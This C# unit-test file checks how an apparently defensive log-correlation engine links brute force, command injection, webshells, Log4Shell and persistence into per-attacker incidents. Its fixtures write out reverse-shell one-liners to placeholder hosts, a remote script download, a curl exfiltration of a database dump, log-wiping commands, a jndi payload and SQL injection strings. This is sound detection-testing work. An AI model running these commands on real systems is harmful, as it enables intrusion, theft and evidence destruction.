using Palisade.Engine.Incidents;
using Palisade.Engine.Rules.Policy;
using Palisade.Protocol;

namespace Palisade.Engine.Tests.Incidents;

/// <summary>Campaigns over several log sources, each one story of one actor; and what looks like one and is none.</summary>
public sealed class CampaignTests
{
    private const string Attacker = "203.0.113.41", Other = "198.51.100.200";

    /// <summary>What goes on anyway: visitors, an administrator, machines that look whether all is well, and guessing from elsewhere that never gets in.</summary>
    private static StoryLog Estate()
    {
        var log = new StoryLog();
        for (var i = 0; i < 200; i++) log.Get(i * 30, $"192.0.2.{i % 90 + 1}", $"/news/{i % 25}", host: "web-01");
        for (var i = 0; i < 120; i++) log.Get(i * 50, "10.0.0.250", "/healthz", bytes: 2, agent: "kube-probe/1.30", host: "web-01");
        for (var d = 0; d < 3; d++)
        {
            log.Says(400 + d * 2_000, "web-01", $"sshd[{710 + d}]", $"Accepted publickey for ops from 10.0.0.9 port {41_000 + d} ssh2: ED25519 SHA256:q0Zl9vG2fJmXbKq1y2Q3r4s5t6u7v8w9x0y1z2a3b4c");
            log.Says(410 + d * 2_000, "web-01", "sudo", "     ops : TTY=pts/0 ; PWD=/home/ops ; USER=root ; COMMAND=/usr/bin/systemctl status nginx");
        }
        for (var i = 0; i < 30; i++) log.Says(900 + i * 9, "web-01", $"sshd[{2_000 + i}]", $"Failed password for invalid user admin from {Other} port {50_000 + i} ssh2");
        return log;
    }

    private static string All(IEnumerable<Incident> incidents) => string.Join("\n", incidents.Select(i =>
        $"{i.Id} {i.Class} {i.Level} {i.Outcome} {i.Score} from {string.Join(',', i.Sources.Select(s => s.Address))} hosts {string.Join(',', i.Hosts)} users {string.Join(',', i.Users)} targets {string.Join(',', i.Targets.Take(3))}: {string.Join(" > ", i.Steps.Select(s => $"{s.Rule.Name} ({s.Count})"))}"));

    /// <summary>The one incident of the attacker; nobody else's has anything of it.</summary>
    private static Incident Story(IReadOnlyList<Incident> incidents, string attacker = Attacker)
    {
        var mine = incidents.Where(i => i.Sources.Any(s => s.Address == attacker)).ToArray();
        Assert.True(mine.Length == 1, All(incidents));
        Assert.True(incidents.Count(i => i.Level >= FindingLevel.High && !i.Sources.Any(s => s.Address == Other)) == 1, All(incidents));
        return mine[0];
    }

    private static void Has(Incident incident, params string[] classes)
    {
        foreach (var c in classes) Assert.True(incident.Steps.Any(s => s.Rule.Class == c), $"no step of class {c}\n{All([incident])}");
    }

    private static StoryLog Guessed()
    {
        var log = Estate();
        for (var i = 0; i < 40; i++) log.Says(2_000 + i * 4, "web-01", $"sshd[{3_000 + i}]", $"Failed password for deploy from {Attacker} port {40_000 + i} ssh2");
        log.Says(2_170, "web-01", "sshd[3100]", $"Accepted password for deploy from {Attacker} port 40100 ssh2");
        log.Says(2_230, "web-01", "sudo", "  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash");
        log.Says(2_300, "web-01", "useradd[3190]", "new user: name=sysd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1");
        log.Ran(2_700, "web-01", "root", "/tmp/.x/xmrig", ["/tmp/.x/xmrig", "-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet"]);
        return log;
    }

    [Fact]
    public void Guessing_then_a_log_in_then_root_then_an_account_then_a_miner_are_one_story_of_who_guessed()
    {
        var incident = Story(Guessed().Run());
        Has(incident, "brute_force", "privilege_escalation", "persistence", "impact");
        Assert.Equal(("impact", FindingLevel.Critical, AttackOutcome.Likely), (incident.Class, incident.Level, incident.Outcome));
        Assert.Equal([Attacker], incident.Sources.Select(s => s.Address));
        Assert.Contains("web-01", incident.Hosts);
        Assert.Contains("deploy", incident.Users);
        Assert.InRange(incident.Score, 90, 100);
        // In the order of the attack.
        var order = incident.Steps.Select(s => s.Rule.Class).Distinct().ToList();
        Assert.True(order.IndexOf("brute_force") < order.IndexOf("persistence") && order.IndexOf("persistence") < order.IndexOf("impact"), string.Join(' ', order));
    }

    [Fact]
    public void Who_only_guessed_has_no_part_in_what_another_did_later()
    {
        var incidents = Guessed().Run();
        var failed = Assert.Single(incidents, i => i.Sources.Any(s => s.Address == Other));
        Assert.True(failed.Outcome < AttackOutcome.Likely, All(incidents));
        Assert.All(failed.Steps, s => Assert.Contains(s.Rule.Class, new[] { "brute_force", "authentication", "reconnaissance", "credential_access" }));
    }

    [Fact]
    public void An_injected_command_its_download_and_the_job_it_leaves_are_one_story()
    {
        var log = Estate();
        foreach (var (at, path) in new[] { (3_000, "/.git/config"), (3_003, "/admin.php"), (3_005, "/phpinfo.php"), (3_009, "/backup.zip") }) log.Get(at, Attacker, path, 404, 153, host: "web-01");
        log.Get(3_020, Attacker, "/tools/lookup.php?d=example.com%3Bid", host: "web-01").Ran(3_020.2, "web-01", "www-data", "/usr/bin/dash", ["sh", "-c", "nslookup example.com;id"]);
        log.Get(3_060, Attacker, "/tools/lookup.php?d=example.com%3Bwget%20-q%20http://192.0.2.222/a.sh%20-O%20/tmp/a.sh", host: "web-01")
            .Ran(3_060.5, "web-01", "www-data", "/usr/bin/wget", ["wget", "-q", "http://192.0.2.222/a.sh", "-O", "/tmp/a.sh"]);
        log.Ran(3_064, "web-01", "www-data", "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/192.0.2.222/4444 0>&1"]);
        log.Says(3_200, "web-01", "crontab[4410]", "(www-data) REPLACE (www-data)");
        var incident = Story(log.Run());
        Assert.Equal((AttackOutcome.Succeeded, FindingLevel.Critical), (incident.Outcome, incident.Level));
        Has(incident, "cmdi", "command_and_control", "persistence");
        Assert.Equal([Attacker], incident.Sources.Select(s => s.Address));
        Assert.Contains("/tools/lookup.php", incident.Targets);
    }

    [Fact]
    public void One_password_used_on_two_hosts_by_one_address_is_one_story_with_both_hosts()
    {
        var log = Estate();
        for (var i = 0; i < 25; i++) log.Says(2_500 + i * 5, "db-01", $"sshd[{5_000 + i}]", $"Failed password for root from {Attacker} port {42_000 + i} ssh2");
        log.Says(2_640, "db-01", "sshd[5100]", $"Accepted password for root from {Attacker} port 42100 ssh2");
        log.Ran(2_700, "db-01", "root", "/usr/bin/mysqldump", ["mysqldump", "--all-databases", "-r", "/tmp/.a.sql"]);
        log.Ran(2_760, "db-01", "root", "/usr/bin/curl", ["curl", "-T", "/tmp/.a.sql", "https://transfer.sh/a.sql"]);
        for (var i = 0; i < 12; i++) log.Says(2_800 + i * 3, "web-01", $"sshd[{5_200 + i}]", $"Failed password for root from {Attacker} port {43_000 + i} ssh2");
        log.Says(2_850, "web-01", "sshd[5300]", $"Accepted password for root from {Attacker} port 43100 ssh2");
        log.Ran(2_900, "web-01", "root", "/usr/bin/bash", ["bash", "-c", "history -c; rm -f /var/log/auth.log /var/log/wtmp"]);
        var incident = Story(log.Run());
        Has(incident, "brute_force", "exfiltration", "defense_evasion");
        Assert.Equal(AttackOutcome.Likely, incident.Outcome);
        Assert.Equal(["db-01", "web-01"], incident.Hosts.Order());
    }

    [Fact]
    public void A_panel_guessed_a_script_uploaded_and_used_and_a_key_left_are_one_story()
    {
        var log = Estate();
        for (var i = 0; i < 60; i++) log.Post(1_500 + i * 2, Attacker, "/manager/login.do", 200, 1_420);
        log.Post(1_640, Attacker, "/manager/login.do", 302, 0).Post(1_700, Attacker, "/manager/file/upload.do", 200, 90);
        for (var i = 0; i < 5; i++)
            log.Post(1_760 + i * 40, Attacker, "/upload/2026/sh.jsp", 200, 310 + i).Ran(1_760.3 + i * 40, "web-01", "tomcat", "/usr/bin/bash", ["/bin/bash", "-c", i % 2 == 0 ? "whoami" : "cat /etc/passwd"], parent: "901");
        log.Ran(2_000, "web-01", "tomcat", "/usr/bin/bash", ["bash", "-c", "mkdir -p ~/.ssh; echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB x >> ~/.ssh/authorized_keys"]);
        var incident = Story(log.Run());
        Has(incident, "brute_force", "webshell", "persistence");
        Assert.Equal(AttackOutcome.Succeeded, incident.Outcome);
    }

    [Fact]
    public void A_look_up_in_a_header_that_gives_a_shell_to_the_application_is_one_story()
    {
        var log = Estate();
        log.Get(2_000, Attacker, "/api/search?q=$%7Bjndi:ldap://192.0.2.77:1389/Exploit%7D", 500, 230, host: "app-01", agent: "${jndi:ldap://192.0.2.77:1389/Exploit}");
        log.Ran(2_001, "app-01", "tomcat", "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/192.0.2.77/9001 0>&1"], parent: "700");
        log.Ran(2_090, "app-01", "tomcat", "/usr/bin/sudo", ["sudo", "-l"]);
        log.Ran(2_400, "app-01", "root", "/usr/bin/systemctl", ["systemctl", "stop", "auditd"]);
        var incident = Story(log.Run());
        Has(incident, "log4shell", "command_and_control", "defense_evasion");
        Assert.True(incident.Outcome >= AttackOutcome.Likely, All([incident]));
        Assert.Contains("app-01", incident.Hosts);
    }

    [Fact]
    public void Deploying_by_ssh_and_sudo_is_no_incident()
    {
        var log = new StoryLog();
        for (var d = 0; d < 6; d++)
        {
            var t = d * 600;
            foreach (var host in new[] { "web-01", "web-02", "web-03" })
            {
                log.Says(t, host, $"sshd[{6_000 + d}]", $"Accepted publickey for ci from 10.0.7.7 port {44_000 + d} ssh2: ED25519 SHA256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
                foreach (var command in new[] { "/usr/bin/rsync --server -logDtprze.iLsfxC . /srv/app", "/usr/bin/systemctl restart app", "/usr/bin/chown -R app:app /srv/app", "/usr/bin/apt-get -y install libfoo1" })
                    log.Says(t + 5, host, "sudo", $"      ci : TTY=unknown ; PWD=/home/ci ; USER=root ; COMMAND={command}");
                log.Ran(t + 9, host, "root", "/usr/bin/systemctl", ["systemctl", "restart", "app"]).Ran(t + 12, host, "root", "/usr/bin/curl", ["curl", "-fsS", "http://127.0.0.1:8080/healthz"]);
            }
        }
        var incidents = log.Run();
        Assert.True(incidents.Count == 0, All(incidents));
    }

    [Fact]
    public void A_scanner_of_the_own_company_that_is_muted_makes_no_incident()
    {
        var log = Estate();
        for (var i = 0; i < 300; i++) log.Get(1_000 + i, "10.0.9.9", i % 3 == 0 ? $"/item?id={i}%27%20OR%201%3D1--%20" : $"/old/{i}/.env", 404, 153, agent: "Mozilla/5.0 (compatible; Nessus)", host: "web-01");
        Assert.Contains(log.Run(), i => i.Sources.Any(s => s.Address == "10.0.9.9"));
        Assert.Equal(MuteProblem.None, Mute.TryCompile(1, [new MuteCondition("source.ip", MuteTest.Is, "10.0.9.9")], long.MaxValue, 1, out var mute));
        var pipeline = StoryLog.NewPipeline();
        pipeline.Policy.Policies = TenantPolicies.Empty.With(1, new TenantPolicy(new Dictionary<string, RuleSetting>(), [mute!], null));
        var incidents = StoryLog.Run(log.ByTime, out _, pipeline: pipeline);
        Assert.True(!incidents.Any(i => i.Sources.Any(s => s.Address == "10.0.9.9")), All(incidents));
        Assert.Contains(incidents, i => i.Sources.Any(s => s.Address == Other));
    }

    [Theory]
    [InlineData("sqli", "scanner")]
    [InlineData("scanner", "sqli")]
    public void Of_two_findings_in_one_request_the_muted_one_tells_nothing(string muted, string told)
    {
        var log = new StoryLog();
        for (var i = 0; i < 40; i++) log.Get(i, Other, $"/item?id={i}%27%20UNION%20SELECT%20password%20FROM%20users--%20", 200, 5_000, agent: "sqlmap/1.8#stable (https://sqlmap.org)");
        Assert.Equal(MuteProblem.None, Mute.TryCompile(1, [new MuteCondition(Mute.ClassField, MuteTest.Is, muted)], long.MaxValue, 1, out var mute));
        var pipeline = StoryLog.NewPipeline();
        pipeline.Policy.Policies = TenantPolicies.Empty.With(1, new TenantPolicy(new Dictionary<string, RuleSetting>(), [mute!], null));
        var steps = StoryLog.Run(log.ByTime, out _, pipeline: pipeline).SelectMany(i => i.Steps).Where(s => s.Rule.Kind == "web").Select(s => s.Rule.Class).Distinct();
        Assert.Equal([told], steps);
    }

    [Fact]
    public void One_attacker_behind_a_shared_address_brings_nobody_else_into_the_story()
    {
        var log = new StoryLog();
        const string Proxy = "100.64.9.1";
        for (var p = 0; p < 120; p++)
        {
            var agent = $"{StoryLog.Chrome} U/{p}";
            log.Get(p * 20, Proxy, "/", agent: agent).Get(p * 20 + 1, Proxy, "/s/app.js", agent: agent, referrer: "https://shop.test/").Get(p * 20 + 4, Proxy, $"/news/{p % 25}", agent: agent, referrer: "https://shop.test/");
            log.Post(p * 20 + 9, Proxy, "/login", p % 12 == 0 ? 401 : 302, 60, agent);
        }
        for (var i = 0; i < 20; i++) log.Get(1_000 + i * 4, Proxy, $"/news?id=1%27%20UNION%20SELECT%20{i},password%20FROM%20users--%20", 403, 150, agent: "curl/8.9.1");
        var incident = Assert.Single(log.Run());
        Assert.Equal(("sqli", 20L, AttackOutcome.Blocked), (incident.Class, incident.Count, incident.Outcome));
    }

    [Fact]
    public void An_administrator_who_mistypes_has_no_part_in_guessing_that_goes_on_at_the_same_host()
    {
        var log = new StoryLog();
        for (var i = 0; i < 60; i++) log.Says(1_000 + i * 10, "web-01", $"sshd[{2_000 + i}]", $"Failed password for root from {Attacker} port {50_000 + i} ssh2");
        for (var i = 0; i < 4; i++) log.Says(1_300 + i * 20, "web-01", "sudo", "   alice : 3 incorrect password attempts ; TTY=pts/2 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/vi /etc/hosts");
        var incidents = log.Run();
        var guessing = incidents.Single(i => i.Sources.Any());
        Assert.True(!guessing.Users.Contains("alice") && guessing.Steps.All(s => s.Rule.Class != "privilege_escalation"), All(incidents));
    }

    [Fact]
    public void What_happens_hours_later_on_a_host_somebody_got_into_belongs_to_that_story()
    {
        var log = Guessed();
        log.Says(2_000 + 5 * 3_600, "web-01", "sudo", "    sysd : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/rm -f /var/log/auth.log");
        log.Ran(2_100 + 5 * 3_600, "web-01", "root", "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/192.0.2.9/443 0>&1"]);
        Has(Story(log.Run()), "impact", "command_and_control");
    }

    [Fact]
    public void Two_who_both_got_in_as_root_are_two_stories()
    {
        var log = new StoryLog();
        foreach (var (client, at) in new[] { (Attacker, 1_000), ("198.51.100.77", 2_500) })
        {
            for (var i = 0; i < 25; i++) log.Says(at + i * 5, "web-01", $"sshd[{at + i}]", $"Failed password for root from {client} port {40_000 + i} ssh2");
            log.Says(at + 140, "web-01", $"sshd[{at + 99}]", $"Accepted password for root from {client} port 40100 ssh2");
        }
        var incidents = log.Run();
        Assert.True(incidents.Count == 2 && incidents.All(i => i is { SourceCount: 1, Outcome: AttackOutcome.Likely }), All(incidents));
    }

    [Fact]
    public void Repeats_weigh_less_and_less_and_a_phase_further_more()
    {
        static int ScoreOf(int guesses, bool further)
        {
            var log = new StoryLog();
            for (var i = 0; i < guesses; i++) log.Says(100 + i * 4, "web-01", $"sshd[{3_000 + i}]", $"Failed password for root from {Attacker} port {40_000 + i} ssh2");
            if (further) log.Says(150 + guesses * 4, "web-01", "sshd[99]", $"Accepted password for root from {Attacker} port 1 ssh2");
            return log.Run().Single().Score;
        }
        var (few, many, more, got) = (ScoreOf(20, false), ScoreOf(200, false), ScoreOf(2_000, false), ScoreOf(20, true));
        Assert.True(few <= many && many <= more && more - many <= many - few + 1, $"{few} {many} {more}");
        Assert.True(got > more, $"{got} {more}");
    }

    [Fact]
    public void What_happens_here_every_day_scores_less_than_what_never_did()
    {
        var log = new StoryLog();
        for (var day = 0; day < 40; day++)
            for (var i = 0; i < 14; i++) log.Says(day * 3_000 + i * 4, "web-01", $"sshd[{3_000 + i}]", $"Failed password for root from 198.51.100.{day + 1} port {40_000 + i} ssh2");
        var scores = log.Run().Where(i => i.SourceCount == 1).OrderBy(i => i.FirstMs).Select(i => i.Score).ToArray();
        Assert.True(scores.Length == 40 && scores[0] > scores[10] && scores[10] >= scores[39] && scores[39] > scores[0] / 3, string.Join(' ', scores));
    }

    [Fact]
    public void A_story_keeps_its_id_however_it_grows()
    {
        var lines = Guessed().ByTime;
        var pipeline = StoryLog.NewPipeline();
        string? id = null;
        for (var n = 0; n < lines.Count; n += 100)
        {
            var incidents = StoryLog.Run([.. lines.Take(n)], out _);
            if (incidents.SingleOrDefault(i => i.Sources.Any(s => s.Address == Attacker)) is not { } now) continue;
            Assert.Equal(id ??= now.Id, now.Id);
        }
        Assert.Equal(id, Story(StoryLog.Run(lines, out _, pipeline: pipeline)).Id);
    }
}
